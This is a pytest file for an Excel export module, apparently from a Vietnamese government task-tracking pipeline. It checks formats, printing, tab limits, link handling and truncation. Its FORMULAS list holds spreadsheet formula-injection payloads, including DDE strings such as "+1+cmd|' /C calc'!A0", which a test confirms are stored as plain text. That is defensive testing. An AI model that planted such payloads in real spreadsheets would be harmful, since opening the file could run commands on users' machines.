"""Excel workbooks, opened again by other programs: what is text stays text, days are days, and it prints on A4."""

from __future__ import annotations

import tracemalloc
import zipfile
from datetime import date, datetime

import openpyxl
import pandas
import pytest

from pipeline.export import excel
from pipeline.export.excel import write_workbook
from pipeline.export.sheet import Column, Group, Link, Sheet, Total
from pipeline.followup.settings import Office

TODAY = date(2026, 1, 31)
OFFICE = Office(name="Sở Mây", parent="Ủy ban nhân dân tỉnh Sông Mơ")
COLUMNS = (
    Column("STT", "serial", 5),
    Column("Nội dung nhiệm vụ", "text", 30),
    Column("Hạn", "day", 12, over="Thời hạn"),
    Column("Ghi trong văn bản", "text", 14, over="Thời hạn"),
    Column("Số việc", "number", 8),
    Column("Tỷ lệ", "percent", 9),
)
FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=1+1",
    "- Báo cáo kết quả",
)


def sheet(rows, **more):
    given = {"name": "Quá hạn", "title": "DANH MỤC", "columns": COLUMNS, "above": ("Tính đến ngày 31/01/2026",)}
    return Sheet(rows=rows, **{**given, "below": ("Ghi chú cuối bảng",), **more})


def row(words="Trồng cây", day=date(2026, 3, 9), number=1):
    return (number, words, day, "trước ngày 09/3", 1200, 98.627)


@pytest.fixture
def write(tmp_path):
    """Write sheets, keep what is told of them, open the file again."""

    def done(*sheets, path=tmp_path / "b.xlsx"):
        done.told = write_workbook(sheets, path, office=OFFICE, today=TODAY)
        done.path = path
        return openpyxl.load_workbook(path)

    return done


def cells(page):
    return {cell.coordinate: cell for line in page.iter_rows() for cell in line if cell.value is not None}


def found(page, value):
    (cell,) = [cell for cell in cells(page).values() if cell.value == value]
    return cell


def xml(path, name="xl/worksheets/sheet1.xml"):
    return zipfile.ZipFile(path).read(name).decode()


def test_days_numbers_and_shares_are_what_they_are_and_not_text(write):
    page = write(sheet([row()])).active
    day = found(page, datetime(2026, 3, 9))
    assert (day.is_date, day.number_format) == (True, "dd/mm/yyyy")
    assert found(page, 1200).number_format == "#,##0"
    assert found(page, 0.98627).number_format == "0.00%"


def test_pandas_reads_it_under_its_headings(write):
    write(sheet([row(), row("Dọn kênh", date(2026, 4, 1), 2)]))
    frame = pandas.read_excel(write.path, header=7)
    assert list(frame.columns) == [column.title for column in COLUMNS]
    assert list(pandas.to_datetime(frame["Hạn"][:2]).dt.day) == [9, 1]
    assert list(frame["Nội dung nhiệm vụ"][:2]) == ["Trồng cây", "Dọn kênh"]


def test_the_heading_stays_in_sight_filters_and_is_printed_on_every_page(write):
    page = write(sheet([row(number=n) for n in range(1, 40)])).active
    heading = found(page, "STT").row
    assert page.freeze_panes == f"A{heading + 1}"
    assert page.auto_filter.ref == f"A{heading}:F{heading + 39}"
    assert page.print_title_rows == f"${heading - 1}:${heading}"
    assert found(page, "Thời hạn").coordinate in str(page.merged_cells)


def test_it_prints_on_a4_as_wide_as_the_page_with_the_number_of_the_page(write):
    page = write(sheet([row()])).active
    setup = page.page_setup
    assert (setup.paperSize, setup.orientation, setup.fitToWidth, setup.fitToHeight) == (9, "landscape", None, 0)
    assert page.sheet_properties.pageSetUpPr.fitToPage
    assert "&amp;C" in xml(write.path) and "&amp;P" in xml(write.path)
    assert write(sheet([row()], upright=True)).active.page_setup.orientation == "portrait"


def test_everything_is_set_in_times_and_says_whose_table_it_is(write):
    page = write(sheet([row()])).active
    assert {cell.font.name for cell in cells(page).values()} == {"Times New Roman"}
    assert page["A1"].value == "ỦY BAN NHÂN DÂN TỈNH SÔNG MƠ" and not page["A1"].font.bold
    assert page["A2"].value == "SỞ MÂY" and page["A2"].font.bold
    assert found(page, "DANH MỤC").font.bold and found(page, "Ghi chú cuối bảng")
    assert found(page, "STT").border.bottom.style == "thin" and found(page, "STT").alignment.wrap_text


def test_lines_between_rows_totals_and_numbers_of_columns_are_there(write):
    rows = [Group("SỞ GIÓ (1 nhiệm vụ)"), row(), Total((None, "TỔNG CỘNG", None, None, 7, 50.0))]
    page = write(sheet(rows, numbered=True)).active
    group = found(page, "SỞ GIÓ (1 nhiệm vụ)")
    assert f"A{group.row}:F{group.row}" in str(page.merged_cells)
    assert found(page, 7).font.bold and not found(page, 1200).font.bold
    assert found(page, "(6)").row == found(page, "STT").row + 1 == int(page.freeze_panes[1:]) - 1
    assert write.told.rows == 1


@pytest.mark.parametrize("words", FORMULAS)
def test_what_begins_like_a_formula_is_text(write, words):
    page = write(sheet([row(words), Group(words)], title=words, above=(words,), below=(words,))).active
    assert "<f>" not in xml(write.path)
    assert all(cell.data_type != "f" for cell in cells(page).values())
    kept = [cell for cell in cells(page).values() if cell.value == words.replace("\r", "\n")]
    assert len(kept) == 5
    assert kept[2].quotePrefix  # also where somebody types into it


def test_a_linked_formula_is_text_too_and_leads_only_where_it_should(write):
    link = Link("=1+1", "#Quá hạn!A1")
    page = write(sheet([(1, link, None, None, None, None)])).active
    assert found(page, "=1+1").data_type != "f"


def test_text_is_never_taken_for_the_files_own_markup(write):
    words = "<r><t>chữ</t></r>"
    page = write(sheet([row(words), row("a\x07b\x00c\ufffe \ud800"), row("_x0041_")])).active
    texts = [str(cell.value) for cell in cells(page).values()]
    assert f"{words} " in texts and "abc ?" in texts, texts
    assert "_x005F_x0041_" in texts  # as Excel writes what looks like its own escapes


def test_links_to_files_hold_where_all_is_moved_together(write, tmp_path):
    there = tmp_path / "hộp thư" / "a#1 %20.pdf"
    page = write(sheet([(Link("7", str(there)), "x", None, Link("xem", "https://x.example/D3"), None, None)])).active
    number = found(page, 7)
    assert number.hyperlink.target == "hộp%20thư\\a%231%20%2520.pdf"
    assert (number.value, number.data_type) == (7, "n")
    assert found(page, "xem").hyperlink.target == "https://x.example/D3"


def test_links_that_excel_cannot_hold_are_told_and_keep_their_words(write, monkeypatch):
    monkeypatch.setattr(excel, "MOST_LINKS", 2)
    rows = [(n, Link(f"văn bản {n}", "/a/b.pdf"), None, None, None, None) for n in range(4)]
    rows.append((4, Link("dài", "https://x.example/" + "a" * 3000), None, None, None, None))
    page = write(sheet(rows)).active
    assert found(page, "văn bản 3").hyperlink is None and found(page, "văn bản 1").hyperlink
    assert found(page, "dài").hyperlink is None
    assert write.told.unlinked == 3


def test_what_is_longer_than_a_cell_holds_is_marked_and_told(write):
    page = write(sheet([row("ă" * 40_000), row("😀" * 20_000)])).active
    long = [cell.value for cell in cells(page).values() if len(str(cell.value)) > 9000]
    assert all(value.endswith("[…]") for value in long) and len(long) == 2
    assert len(long[0].encode("utf-16-le")) // 2 <= 32_767
    assert write.told.shortened == 2


def test_rows_are_as_high_as_their_texts_and_what_cannot_be_seen_is_told(write):
    page = write(sheet([row("ngắn"), row("chữ " * 60), row("chữ " * 400), row("chữ " * 5000)])).active
    first = found(page, "ngắn").row
    rows = range(first, first + 4)
    heights = [page.row_dimensions[n].height for n in rows]
    assert heights[0] < 40 < heights[1] < heights[2] <= heights[3] <= 409
    assert [page.cell(n, 2).font.size for n in rows][:2] == [11, 11]
    assert page.cell(rows[2], 2).font.size < 11
    assert write.told.hidden == 1


def test_more_rows_than_a_tab_holds_go_on_in_the_next(write, monkeypatch):
    monkeypatch.setattr(excel, "MOST_ROWS", 30)
    book = write(sheet(row(number=n) for n in range(1, 71)))
    assert [page.title for page in book] == ["Quá hạn", "Quá hạn (2)", "Quá hạn (3)", "Quá hạn (4)"]
    numbers = [page.cell(n, 1).value for page in book for n in range(8, 31) if isinstance(page.cell(n, 1).value, int)]
    assert numbers == list(range(1, 71))
    assert all(found(page, "STT") and page.max_row <= 30 for page in book)
    assert (write.told.rows, write.told.tabs) == (70, 4)


def test_names_of_tabs_are_such_as_excel_takes(write):
    names = ["Sở [A]/B: *?\\ " + "x" * 40, "Sở [A]/B: *?\\ " + "x" * 40, "'", "quá hạn", "Quá hạn"]
    book = write(*(sheet([row()], name=name) for name in names))
    assert len({page.title.lower() for page in book}) == 5
    assert all(0 < len(page.title) <= 31 and not set("[]/\\:*?'") & set(page.title) for page in book)


def test_an_empty_table_says_so(write):
    page = write(sheet([])).active
    assert found(page, "(Không có)") and found(page, "Ghi chú cuối bảng")
    assert write.told.rows == 0


def test_days_and_numbers_that_excel_does_not_know_stand_as_text(write):
    rows = [(10**17, "x", date(1874, 2, 3), "y", float("nan"), None)]
    page = write(sheet(rows)).active
    assert {"03/02/1874", str(10**17), "nan"} <= {cell.value for cell in cells(page).values()}


def test_the_file_is_the_same_each_time(write, tmp_path):
    write(sheet([row()]), path=tmp_path / "1.xlsx")
    write(sheet([row()]), path=tmp_path / "2.xlsx")
    one, two = (zipfile.ZipFile(tmp_path / name) for name in ("1.xlsx", "2.xlsx"))
    assert {name: one.read(name) for name in one.namelist()} == {name: two.read(name) for name in two.namelist()}


def test_memory_does_not_grow_with_rows(tmp_path):
    made = []
    for count in (1_000, 1_000, 5_000):  # the first fills what is kept of texts that come again
        tracemalloc.start()
        rows = (row(f"Việc {n}", number=n) for n in range(count))
        write_workbook([sheet(rows)], tmp_path / f"{count}.xlsx", office=OFFICE, today=TODAY)
        made.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert made[2] - made[1] < 4_000 * 100  # bytes; kept rows would take a thousand and more each


def test_a_folder_that_cannot_be_written_is_an_error_of_the_system(tmp_path):
    with pytest.raises(OSError):
        write_workbook([sheet([row()])], tmp_path / "no" / "b.xlsx", office=OFFICE, today=TODAY)
